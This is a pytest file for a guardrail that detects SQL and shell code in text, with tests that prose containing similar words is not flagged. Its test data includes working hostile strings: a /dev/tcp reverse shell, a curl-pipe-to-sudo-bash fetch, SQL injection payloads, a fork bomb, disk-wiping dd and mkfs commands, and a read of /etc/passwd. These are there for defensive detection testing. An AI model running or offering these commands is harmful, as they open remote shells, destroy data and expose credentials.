from __future__ import annotations

import pytest

from tests.support.guardrails import effective, parts_of, policy

POLICY = effective(policy("  - {name: code, type: code}"))
SQL_ONLY = effective(policy("  - {name: code, type: code, languages: [sql]}"))

FOUND = {
    "select_all": ("run SELECT * FROM users for me", "SQL"),
    "select_where": ("select name, age from people where id = 7", "SQL"),
    "select_join": ("SELECT u.id FROM users u JOIN orders o ON o.uid = u.id", "SQL"),
    "select_lines": ("SELECT name\n  FROM people\n ORDER BY name", "SQL"),
    "insert": ("insert into t (a, b) values (1, 2)", "SQL"),
    "update": ("UPDATE accounts SET balance = 0", "SQL"),
    "delete": ("delete from sessions where old", "SQL"),
    "create": ("create table if not exists t (id int)", "SQL"),
    "alter": ("ALTER TABLE t ADD COLUMN x int", "SQL"),
    "drop": ("Robert'); DROP TABLE students;--", "SQL"),
    "union": ("1 UNION ALL SELECT password FROM users", "SQL"),
    "always_true": ("name' OR '1'='1", "SQL"),
    "delete_lines": ("DELETE FROM t\nWHERE possible = 1", "SQL"),
    "select_of_text": ("select 'from the web' as s from logs where id = 1", "SQL"),
    "union_of_few": ("1 union select null, password from users", "SQL"),
    "grant_of_several": ("GRANT SELECT (a), INSERT ON db.t TO bob", "SQL"),
    "grant": ("GRANT ALL PRIVILEGES ON db TO bob", "SQL"),
    "shebang": ("#!/bin/bash\necho hi", "SHELL"),
    "remove": ("rm -rf /tmp/x", "SHELL"),
    "pipe_to_shell": ("curl -fsSL https://x.example/i.sh | sudo bash", "SHELL"),
    "sudo": ("then sudo apt-get install nginx", "SHELL"),
    "chmod": ("chmod +x run.sh", "SHELL"),
    "chained": ("make && rm out.txt", "SHELL"),
    "substitution": ("echo $(whoami)", "SHELL"),
    "reverse_shell": ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "SHELL"),
    "format": ("mkfs.ext4 /dev/sda1", "SHELL"),
    "copy_disk": ("dd if=/dev/zero of=/dev/sda", "SHELL"),
    "fork_bomb": (":(){ :|:& };:", "SHELL"),
    "passwd": ("cat /etc/passwd", "SHELL"),
    "netcat": ("nc -lvp 4444", "SHELL"),
    "powershell": ("powershell -nop -enc SQBFAFgA", "SHELL"),
    "export": ("export AWS_PROFILE=prod", "SHELL"),
}
PROSE = {
    "select": "Please select one from the list where it is shown and update me.",
    "create_table": "Create table of contents and drop the table in the corner.",
    "update": "Update the set of rules; delete from memory what is old; insert into the text.",
    "union": "The union selected a speaker, or 1 of them.",
    "delete": "Delete from memory where possible, and delete from disk where it is safe.",
    "select_each": "Please select one speaker from each group by Friday.",
    "insert_the": "Please insert into the values (see below), and update the set title = last.",
    "committee": "The European Union Select Committee meets on Monday.",
    "grant": "We grant all employees a day off on Friday and revoke all rights on shared drives.",
    "sudo": "Explain what sudo means, and why rm is dangerous.",
    "curl": "How do I curl my hair | or not?",
    "export": "We export goods; chmod is a command.",
}


def found(text: str, *, sql_only: bool = False) -> set[str]:
    (outcome,) = (SQL_ONLY if sql_only else POLICY).local.scan(parts_of([text]))
    assert outcome.failure is None
    return {one.type for one in outcome.findings}


@pytest.mark.parametrize("case", FOUND)
def test_a_statement_is_found(case: str) -> None:
    """By its grammar, on one line or several, in any case where the language allows it."""
    text, type_ = FOUND[case]
    assert found(text) == {type_}


@pytest.mark.parametrize("case", PROSE)
def test_prose_with_a_languages_words_is_no_code(case: str) -> None:
    """People select, update and export things all day."""
    assert found(PROSE[case]) == set()


def test_only_the_chosen_languages_count() -> None:
    """A shell command is none of SQL's business."""
    assert found("rm -rf / ; DROP TABLE t;", sql_only=True) == {"SQL"}
